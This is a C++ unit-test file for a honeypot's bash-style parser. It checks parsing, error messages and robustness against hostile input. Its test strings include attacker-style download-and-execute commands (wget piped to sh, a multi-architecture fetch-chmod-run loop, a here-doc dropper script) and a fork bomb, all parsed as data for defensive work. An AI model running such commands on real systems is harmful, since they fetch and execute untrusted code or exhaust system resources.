// The shell's parser: lists, and-or, pipelines, redirections, quoting and expansions kept as
// parts, compound commands, here-documents, and hostile text bounded into syntax errors.
#include "honeypot/shell/parser.hpp"

#include <gtest/gtest.h>

#include <string>

namespace decnet::honeypot::shell {
namespace {

const Command& first(const ParseResult& r) {
    return *r.list.items.at(0).pipelines.at(0).commands.at(0);
}

std::string words(const Command& c) {
    std::string out;
    for (const auto& w : c.words) out += "[" + w.literal() + "]";
    return out;
}

TEST(ShellParser, ListsAndOrsAndPipelines) {
    const auto r = parse("cd /tmp || cd /var/run; wget x && chmod +x a | sh & echo done");
    ASSERT_TRUE(r) << r.error;
    ASSERT_EQ(r.list.items.size(), 3u);
    EXPECT_EQ(r.list.items[0].pipelines.size(), 2u);
    EXPECT_EQ(r.list.items[0].and_then, std::vector<bool>{false});
    EXPECT_EQ(r.list.items[1].and_then, std::vector<bool>{true});
    EXPECT_EQ(r.list.items[1].pipelines[1].commands.size(), 2u);
    EXPECT_TRUE(r.list.items[1].background);
    EXPECT_EQ(words(*r.list.items[2].pipelines[0].commands[0]), "[echo][done]");
}

TEST(ShellParser, QuotingAndExpansionsAreParts) {
    const auto r = parse(R"(echo 'a b' "c $HOME d" e\ f ${X}y $(uname -a) `id` $? '' $'\x41\n')");
    ASSERT_TRUE(r) << r.error;
    const auto& c = first(r);
    ASSERT_EQ(c.words.size(), 10u);
    EXPECT_EQ(c.words[1].literal(), "a b");
    ASSERT_EQ(c.words[2].parts.size(), 3u);
    EXPECT_EQ(c.words[2].parts[1].kind, WordPart::Kind::parameter);
    EXPECT_EQ(c.words[2].parts[1].text, "HOME");
    EXPECT_TRUE(c.words[2].parts[1].quoted);
    EXPECT_EQ(c.words[3].literal(), "e f");
    EXPECT_EQ(c.words[4].parts[0].text, "X");
    EXPECT_EQ(c.words[5].parts[0].kind, WordPart::Kind::command);
    EXPECT_EQ(c.words[5].parts[0].text, "uname -a");
    EXPECT_EQ(c.words[6].parts[0].text, "id");
    EXPECT_EQ(c.words[7].parts[0].text, "?");
    EXPECT_EQ(c.words[8].parts.size(), 1u);  // '' is an empty argument
    EXPECT_EQ(c.words[9].literal(), "A\n");
}

TEST(ShellParser, RedirectionsAndAssignments) {
    const auto r = parse("A=1 B=\"x y\" cmd >out 2>/dev/null >>log 2>&1 <in <<<'hi'");
    ASSERT_TRUE(r) << r.error;
    const auto& c = first(r);
    ASSERT_EQ(c.assignments.size(), 2u);
    EXPECT_EQ(c.assignments[1].first, "B");
    EXPECT_EQ(c.assignments[1].second.literal(), "x y");
    EXPECT_EQ(words(c), "[cmd]");
    ASSERT_EQ(c.redirects.size(), 6u);
    EXPECT_EQ(c.redirects[0].op, RedirectOp::out);
    EXPECT_EQ(c.redirects[1].fd, 2);
    EXPECT_EQ(c.redirects[2].op, RedirectOp::append);
    EXPECT_EQ(c.redirects[3].op, RedirectOp::dup_out);
    EXPECT_EQ(c.redirects[3].target.literal(), "1");
    EXPECT_EQ(c.redirects[4].op, RedirectOp::in);
    EXPECT_EQ(c.redirects[5].op, RedirectOp::here_string);
    EXPECT_EQ(c.redirects[5].target.literal(), "hi");
}

TEST(ShellParser, HereDocuments) {
    const auto r = parse("cat > /tmp/x.sh <<EOF\n#!/bin/sh\nwget $U\nEOF\nsh /tmp/x.sh\n");
    ASSERT_TRUE(r) << r.error;
    ASSERT_EQ(r.list.items.size(), 2u);
    const auto& c = first(r);
    ASSERT_EQ(c.redirects.size(), 2u);
    EXPECT_EQ(c.redirects[1].op, RedirectOp::here_doc);
    EXPECT_EQ(c.redirects[1].here_doc, "#!/bin/sh\nwget $U\n");
    EXPECT_FALSE(c.redirects[1].here_quoted);
    EXPECT_TRUE(
        parse("cat <<'E'\n$x\nE").list.items[0].pipelines[0].commands[0]->redirects[0].here_quoted);
}

TEST(ShellParser, CompoundCommandsAndFunctions) {
    auto r = parse("for a in x86 arm mips; do wget http://h/$a; chmod +x $a; ./$a; done");
    ASSERT_TRUE(r) << r.error;
    EXPECT_EQ(first(r).kind, Command::Kind::for_loop);
    EXPECT_EQ(first(r).name, "a");
    EXPECT_EQ(first(r).items.size(), 3u);
    EXPECT_EQ(first(r).lists[0].items.size(), 3u);
    r = parse("if [ -f /x ]; then echo y; elif true; then :; else echo n; fi");
    ASSERT_TRUE(r) << r.error;
    EXPECT_EQ(first(r).lists.size(), 5u);
    r = parse("while true; do :; done");
    ASSERT_TRUE(r) << r.error;
    EXPECT_EQ(first(r).kind, Command::Kind::while_loop);
    r = parse(":(){ :|:& };:");
    ASSERT_TRUE(r) << r.error;
    ASSERT_EQ(r.list.items.size(), 2u);
    EXPECT_EQ(first(r).kind, Command::Kind::function_def);
    EXPECT_EQ(first(r).name, ":");
    ASSERT_TRUE(first(r).body);
    EXPECT_EQ(first(r).body->kind, Command::Kind::group);
    r = parse("(cd /tmp; ls) > out");
    ASSERT_TRUE(r) << r.error;
    EXPECT_EQ(first(r).kind, Command::Kind::subshell);
    EXPECT_EQ(first(r).redirects.size(), 1u);
}

TEST(ShellParser, CommentsAndContinuations) {
    const auto r = parse("echo a # b c\necho d\\\ne");
    ASSERT_TRUE(r) << r.error;
    ASSERT_EQ(r.list.items.size(), 2u);
    EXPECT_EQ(words(first(r)), "[echo][a]");
    EXPECT_EQ(words(*r.list.items[1].pipelines[0].commands[0]), "[echo][de]");
}

TEST(ShellParser, ErrorsInBashsWords) {
    EXPECT_EQ(parse("ls ;; x").error, "syntax error near unexpected token `;;'");
    EXPECT_EQ(parse(")").error, "syntax error near unexpected token `)'");
    EXPECT_EQ(parse("| x").error, "syntax error near unexpected token `|'");
    EXPECT_EQ(parse("ls >").error, "syntax error near unexpected token `newline'");
    auto r = parse("echo 'open");
    EXPECT_TRUE(r.incomplete);
    r = parse("if true; then");
    EXPECT_TRUE(r.incomplete);
    EXPECT_EQ(r.error, "syntax error: unexpected end of file");
    EXPECT_TRUE(parse("echo $(uname").incomplete);
}

TEST(ShellParser, HostileTextIsBounded) {
    EXPECT_FALSE(parse(std::string(100000, '(')));
    EXPECT_FALSE(parse([] {
        std::string s;
        for (int i = 0; i < 5000; ++i) s += "{ ";
        return s + "x";
    }()));
    std::string many;
    for (int i = 0; i < 30000; ++i) many += "a ";
    EXPECT_EQ(parse(many).error, "too many words");
    std::string nested = "echo ";
    for (int i = 0; i < 1000; ++i) nested += "$(";
    EXPECT_TRUE(parse(nested).incomplete);
    const std::string garbage("\x00\xff\x1b[A;|&<>\"'`$((", 17);
    (void)parse(garbage);                           // no crash
    EXPECT_TRUE(parse(std::string(1 << 20, 'A')));  // one 1 MiB word is still a command
}

}  // namespace
}  // namespace decnet::honeypot::shell
